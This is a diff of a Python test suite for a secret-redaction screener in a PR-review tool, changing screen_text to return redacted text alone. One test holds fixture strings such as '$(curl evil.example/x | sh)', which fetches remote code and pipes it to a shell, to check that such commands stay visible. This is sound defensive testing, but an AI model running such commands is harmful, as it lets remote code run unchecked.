@@ -19,9 +19,20 @@ from pr_review.snapshot.fit import fit
 from pr_review.snapshot.policy import Screening, SnapshotPolicy
 from pr_review.snapshot.ports import SecretMatch
 from pr_review.snapshot.prepare import prepare
-from pr_review.snapshot.screen import screen, screen_brief, screen_paths, screen_text
+from pr_review.snapshot.screen import screen, screen_brief, screen_paths
 from tests.shared import SHARED, shared
-from tests.snapshot.listing import NEW, OLD, NoSecrets, added, change, file, hunk, lines, tools
+from tests.snapshot.listing import (
+    NEW,
+    OLD,
+    NoSecrets,
+    added,
+    change,
+    file,
+    hunk,
+    lines,
+    screen_text,
+    tools,
+)
 
 
 def _made(seed: str, length: int, alphabet: str = "") -> str:
@@ -271,11 +282,10 @@ def test_guidelines_are_screened_each_for_itself() -> None:
     assert (clean.title, clean.body, clean.commit_messages) == ("T", "B", ("first",))
 
 
-def test_a_free_text_names_its_rules() -> None:
-    text, rules = screen_text(f"a\n{PLANTED['assigned password']}\nb", SCANNER)
+def test_a_free_text_keeps_its_lines() -> None:
+    text = screen_text(f"a\n{PLANTED['assigned password']}\nb", SCANNER)
     assert text == 'a\n"password": "[REDACTED:secret-assignment]",\nb'
-    assert rules == ("secret-assignment",)
-    assert screen_text("nothing here", SCANNER) == ("nothing here", ())
+    assert screen_text("nothing here", SCANNER) == "nothing here"
 
 
 MARKS = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----")
@@ -326,7 +336,7 @@ def _left(block: Sequence[str], text: str) -> list[str]:
 def test_a_key_on_one_line_in_any_notation(name: str) -> None:
     block = _key()
     text = f"a = 1; {NOTATIONS[name](block)}; go(b)"
-    assert not _left(block, screen_text(text, SCANNER)[0])
+    assert not _left(block, screen_text(text, SCANNER))
     blob = f"x\n{text}\n".encode()
     given = change(file("src/a.conf", Hunk(2, 0, 2, 1, "", lines("+", [text], 2, 2))))
     *_, row = _rows(_snapshot(given, {NEW: blob, OLD: b"x\n"}))
@@ -342,7 +352,7 @@ def test_a_key_whose_lines_stand_in_a_dress(dress: str, width: int) -> None:
     for shown in (block, block[:-1], block[1:]):
         before, after = dress.partition("{}")[0].format(n=0).rstrip("+"), "after = 2"
         text = f"{_dressed(dress, shown)}\n{after}"
-        clean = screen_text(text, SCANNER)[0]
+        clean = screen_text(text, SCANNER)
         assert not [line for line in block[1:-1] if len(line) >= 8 and line in clean]
         assert clean.startswith(before)
         assert clean.endswith(after)
@@ -359,7 +369,7 @@ def test_a_key_whose_lines_stand_in_a_dress(dress: str, width: int) -> None:
 def test_a_key_with_headers_and_no_end(kind: str, armour: list[str]) -> None:
     block = _key(kind=kind)
     text = "\n".join([block[0], *armour, *block[1:-1]])
-    clean = screen_text(text, NoSecrets())[0]
+    clean = screen_text(text, NoSecrets())
     assert not _left(block, clean)
     assert clean.split("\n")[1 : 1 + len(armour)] == armour
 
@@ -367,7 +377,7 @@ def test_a_key_with_headers_and_no_end(kind: str, armour: list[str]) -> None:
 def test_a_command_beside_a_marker_stays_in_sight() -> None:
     for command in ("sh /tmp/payload", "$(curl evil.example/x | sh)", "python3 -c 'import os'"):
         text = f'K="{MARKS[0]}" {command}'
-        assert screen_text(text, SCANNER)[0] == f'K="[REDACTED:private-key]" {command}'
+        assert screen_text(text, SCANNER) == f'K="[REDACTED:private-key]" {command}'
 
 
 @pytest.mark.parametrize(
@@ -380,7 +390,7 @@ def test_a_command_beside_a_marker_stays_in_sight() -> None:
 @pytest.mark.parametrize("extra", [[], [KEY[:64], KEY[64:128]]])
 def test_a_bare_word_or_path_between_markers_stays_in_sight(command: str, extra: list[str]) -> None:
     rows = [f"# {MARKS[0]}", *extra, command, command, f"# {MARKS[1]}"]
-    clean = screen_text("\n".join(rows), SCANNER)[0].split("\n")
+    clean = screen_text("\n".join(rows), SCANNER).split("\n")
     assert clean[-3:-1] == [command, command]
     assert clean[1:-3] == ["[REDACTED:private-key]"] * len(extra)
 
@@ -539,8 +549,8 @@ HOSTILE = {
 @pytest.mark.parametrize("name", sorted(HOSTILE))
 def test_a_hostile_line_of_a_megabyte_ends(name: str) -> None:
     text = HOSTILE[name]
-    assert screen_text(text, NoSecrets()) == (text, ())
-    between = screen_text(f"{MARKS[0]}\n{text}\n{MARKS[1]}", NoSecrets())[0].split("\n")
+    assert screen_text(text, NoSecrets()) == text
+    between = screen_text(f"{MARKS[0]}\n{text}\n{MARKS[1]}", NoSecrets()).split("\n")
     hidden = "[REDACTED:private-key]"
     assert between == [hidden, hidden if name == "base64" else text, hidden]
 
@@ -548,7 +558,7 @@ def test_a_hostile_line_of_a_megabyte_ends(name: str) -> None:
 @pytest.mark.parametrize("mark", MARKS)
 def test_many_markers_end(mark: str) -> None:
     line = f"{mark}{KEY[:64]}\n" if "BEGIN" in mark else f"{KEY[:64]}{mark}\n"
-    clean = screen_text(line * 20_000, NoSecrets())[0]
+    clean = screen_text(line * 20_000, NoSecrets())
     assert clean == "[REDACTED:private-key]\n" * 20_000
 
 
@@ -592,4 +602,4 @@ def test_many_redactions_in_a_free_text_end() -> None:
     value = _made("x", 24)
     text = f"password={value}\n" * 20_000
     clean = "password=[REDACTED:secret-assignment]\n" * 20_000
-    assert screen_text(text, NoSecrets()) == (clean, ("secret-assignment",))
+    assert screen_text(text, NoSecrets()) == clean
